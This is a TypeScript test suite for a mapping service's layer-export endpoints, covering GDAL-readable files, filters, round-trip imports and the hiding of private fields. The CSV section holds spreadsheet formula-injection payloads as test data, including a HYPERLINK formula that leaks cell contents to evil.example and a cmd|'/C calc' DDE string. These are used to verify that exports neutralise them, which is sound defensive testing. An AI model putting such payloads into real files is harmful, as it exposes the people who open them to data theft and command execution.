import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestApp, type TestContext } from '../helpers/test-app.ts';
import { fixture } from '../fixtures/import/hostile-files.ts';

let ctx: TestContext;
let dir: string;
beforeAll(async () => {
  ctx = await openTestApp();
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'onemap-export-test-'));
});
afterAll(async () => {
  fs.rmSync(dir, { recursive: true, force: true });
  await ctx?.close();
});

const bearer = (role: keyof TestContext['tokens']) => `Bearer ${ctx.tokens[role]}`;

/** Downloads an export as bytes. */
async function download(url: string, role?: keyof TestContext['tokens']) {
  const req = request(ctx.app).get(url).buffer(true).parse((res, cb) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => cb(null, Buffer.concat(chunks)));
  });
  if (role) req.set('Authorization', bearer(role));
  const res = await req;
  return { status: res.status, headers: res.headers, body: res.body as Buffer };
}

function save(name: string, body: Buffer): string {
  const file = path.join(dir, name);
  fs.writeFileSync(file, body);
  return file;
}

/** What `ogrinfo -so` prints about a file (GDAL reading our export). */
function ogrinfo(file: string): string {
  return execFileSync('ogrinfo', ['-ro', '-so', '-al', file], { encoding: 'utf8' });
}

async function matched(collection: string, query = '', role?: keyof TestContext['tokens']) {
  const req = request(ctx.app).get(`/ogc/collections/${collection}/items?limit=1${query ? `&${query}` : ''}`);
  if (role) req.set('Authorization', bearer(role));
  return (await req.expect(200)).body.numberMatched as number;
}

describe('GET /ogc/collections/{id}/items?f=geojson|csv|gpkg|fgb', () => {
  const cases = [
    ['geojson', 'application/geo+json', 'GeoJSON'],
    ['csv', 'text/csv; charset=utf-8', 'CSV'],
    ['gpkg', 'application/geopackage+sqlite3', 'GPKG'],
    ['fgb', 'application/flatgeobuf', 'FlatGeobuf'],
  ] as const;

  for (const [f, type, driver] of cases) {
    it(`${f}: every shelter (no page limit), as a file GDAL's ${driver} driver reads`, async () => {
      const res = await download(`/ogc/collections/shelters/items?f=${f}`);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe(type);
      expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="shelters-\\d{4}-\\d{2}-\\d{2}\\.${f}"$`));
      const info = ogrinfo(save(`shelters.${f}`, res.body));
      expect(info).toContain(`using driver \`${driver}' successful`);
      expect(info).toContain(`Feature Count: ${await matched('shelters')}`);
      expect(info).toMatch(/Extent: \(110\.\d+, 22\.\d+\) - \(111\.\d+, 22\.\d+\)/);
      if (f !== 'csv') expect(info).toMatch(/Geometry: Point/);
    });
  }

  it('polygons: hazard zones as GeoPackage and FlatGeobuf are MultiPolygons in EPSG:4326', async () => {
    for (const f of ['gpkg', 'fgb']) {
      const info = ogrinfo(save(`zones.${f}`, (await download(`/ogc/collections/hazard_zones/items?f=${f}`)).body));
      expect(info).toMatch(/Geometry: Multi Polygon/);
      expect(info).toMatch(/ID\["EPSG",4326\]/);
    }
  });

  it('the items filters apply: bbox and attribute equality, counted the same as the JSON pages', async () => {
    const filter = 'status=open&bbox=110.8,22.2,111.1,22.5';
    const expected = await matched('shelters', filter);
    expect(expected).toBeGreaterThan(0);
    const csv = (await download(`/ogc/collections/shelters/items?f=csv&${filter}`)).body;
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // a BOM, for Excel
    const rows = parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(expected);
    expect(Object.keys(rows[0]).slice(0, 3)).toEqual(['WKT', 'longitude', 'latitude']);
    expect(rows.every((r) => r.status === 'open')).toBe(true);
    expect(rows[0].WKT).toBe(`POINT (${rows[0].longitude} ${rows[0].latitude})`);
    const gj = JSON.parse((await download(`/ogc/collections/shelters/items?f=geojson&${filter}`)).body.toString('utf8'));
    expect(gj.features).toHaveLength(expected);
  });

  it('a limit, when given, still applies; past the page maximum too', async () => {
    const gj = JSON.parse((await download('/ogc/collections/risk_sites/items?f=geojson&limit=5&offset=10')).body.toString('utf8'));
    expect(gj.features).toHaveLength(5);
    const all = JSON.parse((await download('/ogc/collections/risk_sites/items?f=geojson')).body.toString('utf8'));
    expect(all.features.length).toBe(await matched('risk_sites'));
    expect(all.features.length).toBeGreaterThan(100);
    expect(gj.features[0].id).toBe(all.features[10].id);
    await request(ctx.app).get('/ogc/collections/risk_sites/items?f=json&limit=50000').expect(400);
    await request(ctx.app).get('/ogc/collections/risk_sites/items?f=gpkg&limit=50000').expect(200);
  });

  it('private attributes only for signed-in staff', async () => {
    const anon = (await download('/ogc/collections/risk_sites/items?f=csv&limit=3')).body.toString('utf8');
    expect(anon.split('\n')[0]).not.toContain('monitor_phone');
    const staff = (await download('/ogc/collections/risk_sites/items?f=csv&limit=3', 'geohazard')).body.toString('utf8');
    expect(staff.split('\n')[0]).toContain('monitor_phone');
    const info = ogrinfo(save('sites-anon.gpkg', (await download('/ogc/collections/risk_sites/items?f=gpkg&limit=3')).body));
    expect(info).not.toContain('monitor_name');
    expect(ogrinfo(save('sites-staff.fgb', (await download('/ogc/collections/risk_sites/items?f=fgb&limit=3', 'admin')).body))).toContain('monitor_name: String');
  });

  it('an unknown format is a 400 that lists the formats', async () => {
    const res = await request(ctx.app).get('/ogc/collections/shelters/items?f=shp').expect(400);
    expect(res.body.error.message).toBe('f must be one of json, geojson, csv, gpkg, fgb');
  });
});

describe('round trip: import → export → import gives the same features', () => {
  const props = ['code', 'name', 'town_code', 'tier', 'inventory', 'contact'];
  const sameFeature = (a: { geometry: { coordinates: number[] }; properties: Record<string, unknown> }, b: typeof a) => {
    for (const k of props) expect(b.properties[k], k).toEqual(a.properties[k]);
    expect(b.geometry.coordinates[0]).toBeCloseTo(a.geometry.coordinates[0], 9);
    expect(b.geometry.coordinates[1]).toBeCloseTo(a.geometry.coordinates[1], 9);
  };

  it('GCJ-02 depots imported, exported as GeoJSON, CSV and GeoPackage, deleted, and imported back from each', async () => {
    await request(ctx.app).post('/api/import/depots?mode=commit&crs=gcj02').set('Authorization', bearer('planner')).attach('file', fixture('depots-gcj02.csv'), 'depots.csv').expect(200);
    const codes = ['GCJ-CB-01', 'GCJ-CB-02', 'GCJ-CB-03'];
    const original = JSON.parse((await download('/ogc/collections/depots/items?f=geojson')).body.toString('utf8')).features.filter((f: { properties: { code: string } }) => codes.includes(f.properties.code));
    expect(original).toHaveLength(3);

    for (const f of ['geojson', 'csv', 'gpkg']) {
      const file = (await download(`/ogc/collections/depots/items?f=${f}`, 'planner')).body;
      // Unchanged features read back as unchanged: the file says exactly what is stored.
      const dry = await request(ctx.app).post('/api/import/depots?on_duplicate=update').set('Authorization', bearer('planner')).attach('file', file, `depots.${f}`).expect(200);
      expect(dry.body.counts.unchanged, f).toBe(dry.body.counts.read);
      // Delete the three, then bring them back from the file.
      for (const code of codes) {
        const cur = (await request(ctx.app).get(`/ogc/collections/depots/items?code=${code}`).expect(200)).body.features[0];
        await request(ctx.app).delete(`/ogc/collections/depots/items/${cur.id}`).set('Authorization', bearer('planner')).set('If-Match', `"v${cur.properties.version}"`).expect(204);
      }
      const back = await request(ctx.app).post('/api/import/depots?mode=commit&on_duplicate=skip').set('Authorization', bearer('planner')).attach('file', file, `depots.${f}`).expect(200);
      expect(back.body.counts, f).toMatchObject({ inserted: 3, skipped: back.body.counts.read - 3, rejected: 0 });
      for (const o of original) {
        const again = (await request(ctx.app).get(`/ogc/collections/depots/items?code=${o.properties.code}`).expect(200)).body.features[0];
        sameFeature(o, again);
      }
    }
  });
});

describe('POST /api/export: an analysis result as a file', () => {
  it('catchments as GeoPackage, FlatGeobuf and CSV that GDAL reads', async () => {
    const catchments = (await request(ctx.app).get('/api/analysis/catchments?method=nearest').expect(200)).body;
    const small = { type: 'FeatureCollection', features: catchments.features.slice(0, 20) };
    for (const f of ['gpkg', 'fgb', 'csv']) {
      const res = await request(ctx.app).post(`/api/export?f=${f}&name=catchments`).send(small).buffer(true).parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      }).expect(200);
      expect(res.headers['content-disposition']).toMatch(/filename="catchments-/);
      const info = ogrinfo(save(`catchments.${f}`, res.body as Buffer));
      expect(info).toContain('Feature Count: 20');
      if (f !== 'csv') expect(info).toMatch(/Geometry: (Multi )?Polygon/);
    }
  });

  it('refuses what is not a FeatureCollection (422) and unknown formats (400)', async () => {
    await request(ctx.app).post('/api/export?f=gpkg').send({ type: 'Feature' }).expect(422);
    await request(ctx.app).post('/api/export?f=xlsx').send({ type: 'FeatureCollection', features: [] }).expect(400);
  });
});

/** POSTs a body as it is (so that a "__proto__" member stays a member) and returns the file. */
async function exportBody(f: string, body: string) {
  const res = await request(ctx.app).post(`/api/export?f=${f}&name=proto`).set('Content-Type', 'application/json').send(body).buffer(true).parse((r, cb) => {
    const chunks: Buffer[] = [];
    r.on('data', (c: Buffer) => chunks.push(c));
    r.on('end', () => cb(null, Buffer.concat(chunks)));
  });
  return { status: res.status, body: res.body as Buffer };
}

describe('CSV cells that a spreadsheet would run as formulas', () => {
  const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"查看")', '+1+cmd|\'/C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR'];

  it('text starting with = + - @, a tab or a CR is prefixed with a quote, in layer exports', async () => {
    for (const [i, name] of NAMES.entries()) {
      await request(ctx.app).post('/ogc/collections/shelters/items').set('Authorization', bearer('planner')).send({
        type: 'Feature', geometry: { type: 'Point', coordinates: [110.93, 22.36] },
        properties: { code: `CSV-F-${i}`, name, shelter_type: 'emergency', level: 'village', capacity: 10, status: 'open' },
      }).expect(201);
    }
    const rows = parse((await download('/ogc/collections/shelters/items?f=csv')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
    for (const [i, name] of NAMES.entries()) {
      const row = rows.find((r) => r.code === `CSV-F-${i}`);
      expect(row?.name, name).toBe(`'${name}`);
      expect(row?.capacity).toBe('10');
    }
    // Everything else is as it was.
    const plain = rows.find((r) => !r.code.startsWith('CSV-F-'))!;
    expect(plain.name).not.toMatch(/^'/);
    expect(plain.WKT).toMatch(/^POINT \(/);
  });

  it('the quote comes off again when the file is imported back: those features read as unchanged', async () => {
    const csv = (await download('/ogc/collections/shelters/items?f=csv&status=open', 'planner')).body;
    const res = await request(ctx.app).post('/api/import/shelters?on_duplicate=update').set('Authorization', bearer('planner')).attach('file', csv, 'shelters.csv').expect(200);
    // Leading tabs and CRs are trimmed on import like any outer white space, so those two do change.
    const rows = res.body.rows as Array<{ code: string; action: string }>;
    for (const i of [0, 1, 2, 3]) expect(rows.find((r) => r.code === `CSV-F-${i}`)?.action, NAMES[i]).toBe('unchanged');
  });

  it('numbers are never touched (a numeric column’s -5 stays -5); text that looks like one is', async () => {
    const fc = { type: 'FeatureCollection', features: [{ type: 'Feature', geometry: { type: 'Point', coordinates: [110.9, 22.3] }, properties: { n: -5, x: -0.25, t: '-5', ok: 'plain', e: '' } }] };
    const res = await exportBody('csv', JSON.stringify(fc));
    expect(res.status).toBe(200);
    const [row] = parse(res.body, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(row).toMatchObject({ n: '-5', x: '-0.25', t: "'-5", ok: 'plain', e: '' });
    expect(row.longitude).toBe('110.9');
  });
});

describe('property names that are also names of JavaScript object members', () => {
  const body = JSON.stringify({ type: 'FeatureCollection', features: [] }).replace('[]', `[
    {"type": "Feature", "geometry": {"type": "Point", "coordinates": [110.9, 22.3]}, "properties": {"constructor": "a", "toString": "b", "valueOf": "c", "__proto__": "d", "hasOwnProperty": "e"}},
    {"type": "Feature", "geometry": {"type": "Point", "coordinates": [110.91, 22.31]}, "properties": {"name": "only a name"}}
  ]`);

  it('export as every format (never a 500), with the values the features hold and nothing from Object', async () => {
    for (const f of ['geojson', 'csv', 'gpkg', 'fgb']) {
      const res = await exportBody(f, body);
      expect(res.status, `${f}: ${res.body.toString('utf8').slice(0, 200)}`).toBe(200);
      expect(res.body.toString('latin1'), f).not.toMatch(/native code|\[object Object\]/);
      if (f === 'csv') {
        // Read as arrays: records keyed by these names would trip over them in the test itself.
        const [header, ...rows] = parse(res.body, { bom: true }) as string[][];
        const cells = (row: string[]) => Object.fromEntries(['constructor', 'toString', 'valueOf', '__proto__', 'hasOwnProperty', 'name'].map((n) => [n, row[header.indexOf(n)]]));
        expect(cells(rows[0])).toEqual(Object.fromEntries([['constructor', 'a'], ['toString', 'b'], ['valueOf', 'c'], ['__proto__', 'd'], ['hasOwnProperty', 'e'], ['name', '']]));
        expect(cells(rows[1])).toEqual(Object.fromEntries([['constructor', ''], ['toString', ''], ['valueOf', ''], ['__proto__', ''], ['hasOwnProperty', ''], ['name', 'only a name']]));
      }
      if (f === 'gpkg' || f === 'fgb') expect(ogrinfo(save(`proto.${f}`, res.body))).toContain('Feature Count: 2');
    }
  });
});
